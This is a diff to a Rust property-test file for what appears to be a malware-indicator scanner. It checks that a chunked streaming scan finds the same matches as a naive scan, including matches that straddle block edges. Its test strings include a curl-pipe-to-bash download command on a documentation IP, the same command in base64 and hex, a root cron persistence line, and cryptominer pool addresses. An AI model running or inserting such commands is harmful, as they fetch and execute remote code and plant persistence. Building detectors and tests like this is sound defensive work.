@@ -64,28 +64,31 @@ fn shown(carved: &[Carved]) -> Vec<String> {
     carved.iter().map(line).collect()
 }
 
+const PIECES: &[&[u8]] = &[
+    b"http://198.51.100.7/x",
+    b"stratum+tcp://ap.luckpool.net:3956",
+    b"xmr.nanopool.org",
+    b"\"method\":\"mining.subscribe\"",
+    b"Payload dropped to: /usr/sbin/w1",
+    b"203.0.113.99:4444",
+    b"[2001:db8::7]:3333",
+    b"someone@mail.kz",
+    b"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
+    b"Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA==",
+    b"687474703a2f2f3139382e35312e3130302e392f78",
+    b"curl -fsSL http://198.51.100.9/x | bash",
+    b"--donate-level=1",
+    b"a4.onion",
+    b"* * * * * root /tmp/.x/run",
+    b"2.7.1",
+    b"://",
+    b"x:9",
+    b"0.0.0",
+    b"a@b.kz",
+];
+
 /// Bytes in which much is nearly something: pieces of text and of none, one after the other.
 fn bytes() -> impl Strategy<Value = Vec<u8>> {
-    const PIECES: &[&[u8]] = &[
-        b"http://198.51.100.7/x",
-        b"stratum+tcp://ap.luckpool.net:3956",
-        b"xmr.nanopool.org",
-        b"\"method\":\"mining.subscribe\"",
-        b"Payload dropped to: /usr/sbin/w1",
-        b"203.0.113.99:4444",
-        b"[2001:db8::7]:3333",
-        b"someone@mail.kz",
-        b"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
-        b"Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA==",
-        b"687474703a2f2f3139382e35312e3130302e392f78",
-        b"curl -fsSL http://198.51.100.9/x | bash",
-        b"--donate-level=1",
-        b"a4.onion",
-        b"* * * * * root /tmp/.x/run",
-        b"2.7.1",
-        b"://",
-        b"x:9",
-    ];
     let piece = prop_oneof![
         3 => prop::sample::select(PIECES).prop_map(<[u8]>::to_vec),
         2 => (prop::sample::select(PIECES), 1..=255_u8)
@@ -99,18 +102,40 @@ fn bytes() -> impl Strategy<Value = Vec<u8>> {
     prop::collection::vec(piece, 1..14).prop_map(|pieces| pieces.concat())
 }
 
+fn both(bytes: &[u8], chunk: usize) -> (Vec<String>, Vec<String>) {
+    let scanner = Scanner::own();
+    let mut naive = Found::default();
+    let mut padded = bytes.to_vec();
+    padded.resize(bytes.len() + PADDING, 0);
+    scan(&scanner, &Text::ascii(&padded, 0), bytes.len(), &mut naive);
+    let mut fast = Found::default();
+    Stream::with_chunk(&mut fast, 0, chunk).feed(bytes);
+    (shown(&fast.finish().0), shown(&naive.finish().0))
+}
+
+/// Every literal and every piece alone among zeros, its first letters in one block and the rest in
+/// the next: a run too short to be told in the first is looked back at.
+#[test]
+fn what_lies_across_the_edge_of_a_block_is_seen() {
+    let scanner = Scanner::own();
+    let literals = (0..scanner.grams.literals()).map(|number| scanner.grams.text(number).to_vec());
+    for text in literals.chain(PIECES.iter().map(|piece| piece.to_vec())) {
+        for before in 57..65 {
+            let mut bytes = vec![0; before];
+            bytes.extend(&text);
+            bytes.extend([0; 70]);
+            let (fast, naive) = both(&bytes, 4096);
+            assert_eq!(fast, naive, "{:?} at {before}", String::from_utf8_lossy(&text));
+        }
+    }
+}
+
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(400))]
 
     #[test]
     fn the_fast_scan_finds_what_the_naive_one_does(bytes in bytes(), chunk in 64_usize..4096) {
-        let scanner = Scanner::own();
-        let mut naive = Found::default();
-        let mut padded = bytes.clone();
-        padded.resize(bytes.len() + PADDING, 0);
-        scan(&scanner, &Text::ascii(&padded, 0), bytes.len(), &mut naive);
-        let mut fast = Found::default();
-        Stream::with_chunk(&mut fast, 0, chunk).feed(&bytes);
-        prop_assert_eq!(shown(&fast.finish().0), shown(&naive.finish().0));
+        let (fast, naive) = both(&bytes, chunk);
+        prop_assert_eq!(fast, naive);
     }
 }
